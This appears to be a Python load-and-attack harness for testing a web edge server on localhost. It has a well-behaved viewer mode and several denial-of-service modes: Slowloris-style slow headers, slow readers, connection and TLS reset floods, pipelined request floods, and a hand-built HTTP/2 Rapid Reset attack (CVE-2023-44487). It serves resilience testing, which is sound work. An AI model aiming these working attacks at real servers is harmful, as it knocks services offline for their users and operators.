# One attacker, or one well-behaved viewer, beside others. Prints one line of JSON at the end; a viewer and a slow client
# print "begun" first, once they are where they want to be.
#
#   edge-attack.py '{"do": "view" | "slow-headers" | "slow-readers" | "connect" | "requests" | "streams", "port", "seconds", …}'
import json
import resource
import select
import socket
import ssl
import sys
import time

order = json.loads(sys.argv[1])
address = ("127.0.0.1", order["port"])
end = time.monotonic() + order["seconds"]
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


def request(path):
    return f"GET {path} HTTP/1.1\r\nHost: edge\r\n\r\n".encode()


def anyone():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def say(**figures):
    print(json.dumps(figures), flush=True)


def view():
    """A new connection and one small file, again and again, with a pause between."""
    print("begun", flush=True)
    took, asked = [], 0
    while time.monotonic() < end:
        asked += 1
        begun = time.monotonic()
        try:
            with socket.create_connection(address, timeout=10) as connection:
                connection.sendall(request(order["path"]))
                come = b""
                while len(come) < order["bodyBytes"] or b"\r\n\r\n" not in come:
                    more = connection.recv(65536)
                    if not more:
                        break
                    come += more
            if come.startswith(b"HTTP/1.1 200") and len(come) >= order["bodyBytes"]:
                took.append(time.monotonic() - begun)
        except OSError:
            pass
        time.sleep(0.005)
    took.sort()
    at = lambda share: took[min(len(took) - 1, int(len(took) * share))] * 1000 if took else -1
    say(asked=asked, answered=len(took), p50Ms=at(0.5), p99Ms=at(0.99))


def opened(count, buffer=None):
    held = {}
    for _ in range(count):
        one = socket.socket()
        if buffer is not None:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        one.settimeout(10)
        one.connect(address)
        one.setblocking(False)
        held[one.fileno()] = one
    return held


def lived(held, born, each):
    """Goes on with `each` of them every so often; how long the first and the last of those that were cut had lived."""
    poll = select.epoll()
    for number in held:
        poll.register(number, select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP)
    print("begun", flush=True)
    ages, count = [], len(held)
    while held and time.monotonic() < end:
        due = time.monotonic() + order["everySeconds"]
        for number, one in list(held.items()):
            try:
                each(one)
            except BlockingIOError:
                pass
            except OSError:
                pass
        while held and time.monotonic() < due:
            for number, _ in poll.poll(max(0, due - time.monotonic())):
                poll.unregister(number)
                held.pop(number).close()
                ages.append(time.monotonic() - born)
    say(opened=count, cut=len(ages), firstCutSeconds=min(ages, default=-1), lastCutSeconds=max(ages, default=-1))


def slow_headers():
    born = time.monotonic()
    held = opened(order["connections"])
    for one in held.values():
        one.send(b"GET /t/")
    lived(held, born, lambda one: one.send(b"1"))


def slow_readers():
    """Asks for a film and reads `sip` bytes every so often; 0: never."""
    born = time.monotonic()
    held = opened(order["connections"], buffer=4096)
    for one in held.values():
        one.send(request(order["path"]))
    lived(held, born, lambda one: one.recv(order["sip"]) if order["sip"] else None)


def connect():
    """Opens and resets; over TLS after the greeting."""
    context = anyone() if order["tls"] else None
    done = 0
    while time.monotonic() < end:
        try:
            one = socket.create_connection(address, timeout=5)
            if context is not None:
                one = context.wrap_socket(one)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
            one.close()
            done += 1
        except OSError:
            pass
    say(done=done)


def requests():
    """The same request on and on, many at a time on a few connections. Counts answers of the status that is expected."""
    text = request(order["path"]) * 50
    wanted = b"HTTP/1.1 %d " % order["status"]
    done, busy, rounds = 0, [], 0
    while time.monotonic() < end:
        # An nginx that also speaks TLS ends a connection after 1,000 requests.
        if rounds % 20 == 0:
            for one in busy:
                one.close()
            busy = [socket.create_connection(address, timeout=10) for _ in range(4)]
        rounds += 1
        for one in busy:
            one.sendall(text)
        for one in busy:
            come, tail = 0, b""
            while come < 50:
                more = one.recv(262144)
                if not more:
                    raise SystemExit(f"closed after {done + come} answers")
                come += (tail + more).count(wanted) - tail.count(wanted)
                tail = more[-len(wanted) + 1 :]
            done += come
    say(done=done)


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    def text(words):
        if len(words) < 127:
            return bytes([len(words)]) + words
        left, length = len(words) - 127, b"\x7f"
        while left >= 128:
            length += bytes([128 + left % 128])
            left //= 128
        return length + bytes([left]) + words

    return b"\x00" + text(name) + text(value)


def streams():
    """HTTP/2: opens streams and resets each at once, a whole batch in one write (CVE-2023-44487); or with `reset` false,
    lets them be answered."""
    context = anyone()
    context.set_alpn_protocols(["h2"])
    fields = {b":method": b"GET", b":scheme": b"https", b":path": order["path"].encode(), b":authority": b"edge"}
    block = b"".join(literal(*field) for field in fields.items())
    batch = []
    for number in range(0, 40):
        batch.append([1 + 2 * (number * 100 + i) for i in range(100)])
    opened_streams, connections = 0, 0
    while time.monotonic() < end:
        connections += 1
        with context.wrap_socket(socket.create_connection(address, timeout=5)) as tls:
            tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            tls.settimeout(5)
            try:
                for ids in batch:
                    said = b""
                    for stream in ids:
                        said += frame(1, 5, stream, block)
                        if order["reset"]:
                            said += frame(3, 0, stream, (8).to_bytes(4, "big"))
                    tls.sendall(said)
                    opened_streams += len(ids)
                    if time.monotonic() > end:
                        break
                    if not order["reset"]:
                        tls.recv(65536)
            except OSError:
                pass
    say(streams=opened_streams, connections=connections)


{
    "view": view,
    "slow-headers": slow_headers,
    "slow-readers": slow_readers,
    "connect": connect,
    "requests": requests,
    "streams": streams,
}[order["do"]]()
